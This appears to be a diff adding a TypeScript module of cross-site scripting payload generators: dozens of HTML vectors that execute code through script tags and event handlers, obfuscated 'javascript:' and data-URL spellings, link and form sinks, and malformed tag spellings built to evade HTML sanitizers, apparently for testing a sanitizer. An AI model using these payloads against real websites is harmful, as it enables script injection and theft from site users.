@@ -1,0 +1,105 @@
+/** Ways to run code, by the code. */
+export const vectors: readonly ((code: string) => string)[] = [
+  (code) => `<script>${code}</script>`,
+  (code) => `<script type=module>${code}</script>`,
+  (code) => `<script src="data:text/javascript,${encodeURIComponent(code)}"></script>`,
+  (code) => `<img src=data:, onerror="${code}">`,
+  (code) => `<img/src/onerror=${code}>`,
+  (code) => `<image src=data:, onerror='${code}'>`,
+  (code) => `<input type=image src=data:, onerror="${code}">`,
+  (code) => `<picture><source srcset=data:,><img alt onerror="${code}"></picture>`,
+  (code) => `<video><source src=data:, onerror="${code}"></video>`,
+  (code) => `<audio src=data:, onerror="${code}"></audio>`,
+  (code) => `<svg onload="${code}"></svg>`,
+  (code) => `<svg><script>${code}</script></svg>`,
+  (code) => `<svg><script href="data:text/javascript,${encodeURIComponent(code)}" /></svg>`,
+  (code) => `<svg><image href=data:, onerror="${code}" /></svg>`,
+  (code) => `<svg><animate attributeName=x dur=1s onbegin="${code}" /></svg>`,
+  (code) => `<svg><a href="javascript:${code}"><text>Read</text></a></svg>`,
+  (code) => `<svg><a><set attributeName=href to="javascript:${code}" /><text>Read</text></a></svg>`,
+  (code) =>
+    `<svg><a><animate attributeName=xlink:href to="javascript:${code}" fill=freeze dur=1ms /><text>A</text></a></svg>`,
+  (code) => `<math href="javascript:${code}"><mi>x</mi></math>`,
+  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
+  (code) => `<iframe src="javascript:${code}"></iframe>`,
+  (code) => `<iframe src="data:text/html,<script>${code}</script>"></iframe>`,
+  (code) => `<iframe onload="${code}"></iframe>`,
+  (code) => `<object data="data:text/html,<script>${code}</script>"></object>`,
+  (code) => `<embed src="data:text/html,<script>${code}</script>">`,
+  (code) => `<style onload="${code}"></style>`,
+  (code) => `<link rel=stylesheet href=data:text/css, onload="${code}">`,
+  (code) => `<style>@keyframes k{}</style><b style=animation:k onanimationstart="${code}">A</b>`,
+  (code) => `<details open ontoggle="${code}"><summary>More</summary></details>`,
+  (code) => `<marquee onstart="${code}">News</marquee>`,
+  (code) => `<input autofocus onfocus="${code}">`,
+  (code) => `<x-news tabindex=1 autofocus onfocus="${code}">News</x-news>`,
+  (code) => `<a href="javascript:${code}">Read</a>`,
+  (code) => `<map><area href="javascript:${code}"></map>`,
+  (code) => `<form action="javascript:${code}"><button>Send</button></form>`,
+  (code) => `<form><button formaction="javascript:${code}">Send</button></form>`,
+  (code) => `<button popovertarget=p>A</button><i popover id=p onbeforetoggle="${code}">B</i>`,
+]
+
+const encoded = (text: string, write: (codePoint: number) => string) =>
+  text.replace(/./gs, (letter) => write(letter.codePointAt(0) ?? 0))
+const script = 'javascript:'
+
+/** Spellings of an address that runs code. */
+export const addresses: readonly ((code: string) => string)[] = [
+  (code) => `JaVaScRiPt:${code}`,
+  (code) => ` \t\n${script}${code}`,
+  (code) => `java\tscript:${code}`,
+  (code) => `java\nscript\r:${code}`,
+  (code) => `java&Tab;scr&NewLine;ipt&colon;${code}`,
+  (code) => `\u0001\u001f${script}${code}`,
+  (code) => `&#1;&#32;${script}${code}`,
+  (code) => encoded(script, (point) => `&#${point};`) + code,
+  (code) => encoded(script, (point) => `&#x${point.toString(16)};`) + code,
+  (code) => encoded(script, (point) => `&#${String(point).padStart(7, '0')}`) + code,
+  (code) => `${script}//https://good.example/%0A${code}`,
+  (code) => `${script}/*https://good.example*/${code}`,
+  (code) => `${script}\u2028${code}`,
+  (code) => `java\0script:${code}`,
+  (code) => `\uFEFF${script}${code}`,
+  (code) => `feed:${script}${code}`,
+  (code) => `view-source:${script}${code}`,
+  (code) => `vbscript:${code}`,
+  (code) => `data:text/html,<script>${code}</script>`,
+  (code) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
+  (code) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
+  (code) => `data:image/png,<script>${code}</script>`,
+  (code) => `blob:https://good.example/${code}`,
+]
+
+/** Places that take an address. */
+export const addressees: readonly ((address: string) => string)[] = [
+  (address) => `<a href="${address}">Read</a>`,
+  (address) => `<a href='https://good.example' href="${address}" target=_self>Read</a>`,
+  (address) => `<map><area href="${address}" shape=default></map>`,
+  (address) => `<svg><a xlink:href="${address}"><text>Read</text></a></svg>`,
+  (address) => `<form action="${address}"><input type=submit></form>`,
+  (address) => `<form><input type=submit formaction="${address}"></form>`,
+  (address) => `<iframe src="${address}"></iframe>`,
+  (address) => `<object data="${address}"></object>`,
+  (address) => `<embed src="${address}">`,
+  (address) => `<img src="${address}">`,
+]
+
+/** Spellings of a tag with a handler, by an element's name and the code. */
+export const spellings: readonly ((name: string, code: string) => string)[] = [
+  (name, code) => `<${name.toUpperCase()} ONMOUSEOVER="${code}">A`,
+  (name, code) => `<${name}/onclick=${code}>A`,
+  (name, code) => `<${name}\nonclick\n=\n'${code}'>A`,
+  (name, code) => `<${name}\u000conclick="${code}">A`,
+  (name, code) => `<${name} a=">" onclick="${code}">A`,
+  (name, code) => `<${name} "onclick="${code}">A`,
+  (name, code) => `<${name} ="a" onclick="${code}">A`,
+  (name, code) => `<${name} title='" onclick=1' onclick="${code}">A`,
+  (name, code) => `<${name} onclick="${code}" onclick="1">A`,
+  (name, code) => `<${name} onclick\0="${code}" onclick="${code}">A`,
+  (name, code) => `<${name} onclick="${encoded(code, (point) => `&#${point};`)}">A`,
+  (name, code) => `<${name} onclick=&quot;&quot;;${code}>A`,
+  (name, code) => `<${name} onclick="${code}"`,
+  (name, code) => `<${name} onclick="${code}"><${name}>A</${name} onclick="${code}">`,
+  (name, code) => `<<${name} onclick="${code}">A`,
+]
